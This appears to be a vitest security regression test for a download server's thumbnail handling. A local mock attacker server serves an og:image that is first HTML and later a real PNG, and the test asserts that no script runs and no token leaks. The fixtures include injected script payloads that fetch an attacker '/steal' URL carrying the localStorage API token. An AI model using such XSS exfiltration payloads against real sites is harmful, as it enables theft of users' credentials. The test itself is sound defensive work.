import { readdir, readFile, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { chromium, type Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { MEDIA_DIR } from "../fixtures/media.js";
import { startFixtureServer, type FixtureServer } from "../fixtures/server.js";
import { CHROMIUM, waitFor } from "../helpers.js";
import { ADD, startServerProcess, TASK, type ServerProcess } from "./server.js";

const TOKEN = "thumbnail-test-token-0123456789";
const AUTH = { authorization: `Bearer ${TOKEN}` };

/**
 * The attack: a page whose og:image answers text/html with a script the first time and a real
 * image afterwards. The first attempt fails converting the "image"; before, it left
 * thumbnails/<id>.html behind, the retry served it as the thumbnail, and the script ran on our
 * origin with the token in reach.
 */
let attacker: Server;
let attackerBase = "";
let fixture: FixtureServer;
const stolen: string[] = [];
let thumbnailFetches = 0;
let browser: Browser;
let server: ServerProcess;

beforeAll(async () => {
  fixture = await startFixtureServer();
  const png = await readFile(path.join(MEDIA_DIR, "thumb.png"));
  attacker = createServer((req, res) => {
    if (req.url === "/page.html") {
      return void res.writeHead(200, { "content-type": "text/html" }).end(
        `<html><head><meta property="og:title" content="Innocent"><meta property="og:image" content="${attackerBase}/thumb.html">` +
          `</head><body><video src="${fixture.url("/clip.mp4?xss")}" poster="${attackerBase}/thumb.html"></video></body></html>`,
      );
    }
    if (req.url === "/thumb.html") {
      if (thumbnailFetches++ > 0) return void res.writeHead(200, { "content-type": "image/png" }).end(png);
      const script = `<script>fetch("${attackerBase}/steal?" + encodeURIComponent(localStorage["download-server-token"] || "ran"))</script>`;
      return void res.writeHead(200, { "content-type": "text/html" }).end(`<html><body>${script}</body></html>`);
    }
    if (req.url?.startsWith("/steal")) stolen.push(req.url);
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  attackerBase = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  server = await startServerProcess({ API_TOKEN: TOKEN, ALLOW_PRIVATE_ADDRESSES: "true" });
  browser = await chromium.launch(CHROMIUM);
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  await fixture?.close();
  attacker?.closeAllConnections();
  await new Promise((resolve) => attacker?.close(resolve));
});

type Task = { id: string; status: string; thumbnailUrl: string | null };
const task = async (id: string) => (await server.gql(TASK, { id }, AUTH)).body.data!.download as Task;
const ended = (id: string) => waitFor(async () => ((t) => (["COMPLETED", "ERROR"].includes(t.status) ? t : undefined))(await task(id)), { timeoutMs: 30_000, what: "the task to end" });

/** Opens a URL in Chromium on a page of our origin that holds the token, as the web page does. */
async function openInBrowser(url: string): Promise<void> {
  const page = await browser.newPage();
  try {
    await page.goto(`${server.base}/`);
    await page.evaluate((token) => localStorage.setItem("download-server-token", token), TOKEN);
    await page.goto(url);
    await page.waitForTimeout(500);
  } finally {
    await page.close();
  }
}

describe("a thumbnail that is HTML the first time", () => {
  it("is never served as anything but an image, and no script runs", async () => {
    const { body } = await server.gql(ADD, { url: `${attackerBase}/page.html` }, AUTH);
    const id = (body.data!.addDownload as { downloads: Array<{ id: string }> }).downloads[0]!.id;
    let done = await ended(id);
    const thumbnails = path.join(server.dataDir, "thumbnails");
    if (done.status === "ERROR") {
      expect(await readdir(thumbnails)).toEqual([]); // the failed attempt left nothing to pick up
      await server.gql(`mutation($id: ID!) { retryDownload(id: $id) { __typename } }`, { id }, AUTH);
      done = await ended(id);
    }
    expect(done.status).toBe("COMPLETED");
    // The HTML was fetched; saved as .jpg (never .html) it either failed the conversion (then the retry fetched the image) or was dropped as not an image.
    expect(thumbnailFetches).toBeGreaterThanOrEqual(1);
    expect((await readdir(thumbnails)).every((name) => /\.(jpg|png|webp)$/.test(name))).toBe(true);

    const res = await fetch(`${server.base}/api/thumbnails/${id}`, { headers: AUTH });
    if (res.status === 200) {
      const bytes = Buffer.from(await res.arrayBuffer());
      const type = res.headers.get("content-type");
      expect(["image/png", "image/jpeg"]).toContain(type);
      expect(type === "image/png" ? bytes.subarray(1, 4).toString() === "PNG" : bytes[0] === 0xff && bytes[1] === 0xd8).toBe(true);
    } else {
      expect(res.status).toBe(404);
    }
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("content-security-policy")).toMatch(/default-src 'none'/);

    await openInBrowser(new URL(done.thumbnailUrl ?? `/api/thumbnails/${id}`, server.base).toString());
    expect(stolen).toEqual([]);
  });

  it("refuses a thumbnail file whose bytes are not an image, whatever its name", async () => {
    const { body } = await server.gql(ADD, { url: fixture.url("/page.html?planted") }, AUTH);
    const id = (body.data!.addDownload as { downloads: Array<{ id: string }> }).downloads[0]!.id;
    const done = await ended(id);
    expect(done.status).toBe("COMPLETED");
    const [name] = (await readdir(path.join(server.dataDir, "thumbnails"))).filter((n) => n.startsWith(id));
    const script = `<script>fetch("${attackerBase}/steal?planted")</script>`;
    await writeFile(path.join(server.dataDir, "thumbnails", name!), `<html><body>${script}</body></html>`);

    const res = await fetch(`${server.base}/api/thumbnails/${id}`, { headers: AUTH });
    expect(res.status).toBe(404);
    await openInBrowser(new URL(done.thumbnailUrl!, server.base).toString());
    expect(stolen).toEqual([]);
  });
});
